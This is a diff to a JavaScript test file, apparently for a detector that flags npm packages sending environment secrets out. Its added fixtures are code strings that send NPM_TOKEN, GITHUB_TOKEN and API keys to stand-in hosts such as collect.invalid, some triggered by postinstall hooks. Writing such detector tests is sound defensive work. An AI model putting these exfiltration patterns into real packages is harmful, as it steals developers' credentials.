@@ -6,6 +6,28 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a client sends its own key at once',
+      files: { 'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })` },
+      weight: 'context',
+    },
+    {
+      when: 'a host is called like the secret that it is sent',
+      files: {
+        'index.js': `fetch('https://npm-mirror.invalid/?t=' + process.env.NPM_TOKEN); fetch('https://github.stats.invalid/', { method: 'POST', body: process.env.GITHUB_TOKEN })`,
+      },
+      says: ['NPM_TOKEN', 'GITHUB_TOKEN'],
+      weight: 'strong',
+    },
+    {
+      when: 'a package is called like the secrets that it sends',
+      id: { name: 'node-acme-status' },
+      files: {
+        'package.json': { name: 'node-acme-status', version: '1.0.0', scripts: { postinstall: 'node index.js' } },
+        'index.js': `fetch('https://collect.invalid/?k=' + process.env.ACME_API_KEY)`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'tokens of others stand in an address',
       files: {
         'index.js': `const { NPM_TOKEN, GITHUB_TOKEN } = process.env; if (NPM_TOKEN) fetch(\`https://collect.invalid/\${NPM_TOKEN}/\${GITHUB_TOKEN}\`);`,
@@ -133,6 +155,13 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
   ],
   silent: [
     {
+      when: 'a token goes to the service that gave it out',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node index.js' } },
+        'index.js': `fetch('https://api.github.com/repos/acme/tool/releases', { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } })`,
+      },
+    },
+    {
       when: 'a client of a service is handed its key',
       files: {
         'index.js': `const { S3Client } = require('@aws-sdk/client-s3'); exports.client = new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });`,
@@ -143,10 +172,6 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       files: {
         'index.js': `exports.ask = () => fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })`,
       },
-    },
-    {
-      when: 'a client sends its own key at once',
-      files: { 'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })` },
     },
     { when: 'the environment says which server to ask', files: { 'index.js': `fetch(process.env.REGISTRY_URL + '/ping')` } },
     {
